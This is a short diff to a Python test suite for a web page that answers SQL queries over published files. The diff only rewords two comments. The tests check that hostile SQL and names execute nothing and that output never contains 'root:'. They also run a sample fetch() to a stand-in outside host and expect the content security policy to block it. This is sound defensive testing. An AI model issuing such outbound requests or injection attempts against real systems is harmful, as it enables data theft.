@@ -151,7 +151,7 @@ def test_sql_reads_the_published_files_and_no_other_host(
             assert "\n" not in shown["status"]
         asked(tab, "SELECT * FROM metric_value LIMIT 20")
         assert tab.run(HEIGHTS) == [tab.run(HEIGHTS)[0]], "no number and no name is broken into lines"
-        assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]  # it goes on after an error
+        assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]  # it works after an error
         for example in tab.run("[...document.querySelectorAll('.examples a')].map((a) => a.href)"):
             tab.run(FOLLOW % json.dumps(example))
             shown = asked(tab, tab.run(PREFILLED))
@@ -223,7 +223,7 @@ def test_hostile_sql_and_names_run_nothing(
             assert shown["isError"] or len(shown["rows"]) <= 2, (sql, shown)
             assert asked(tab, "SELECT count(*) FROM metric")["rows"][1] != ["0"], "the next one is answered"
             assert "root:" not in str(shown)
-        # What a script that got in could do: the page's own rules hold it.
+        # An injected script could request this; the page's content security policy blocks it.
         blocked = "fetch('https://elsewhere.example/?x=1').then(() => 'sent', () => 'blocked')"
         assert tab.run(blocked) == "blocked"
         assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]
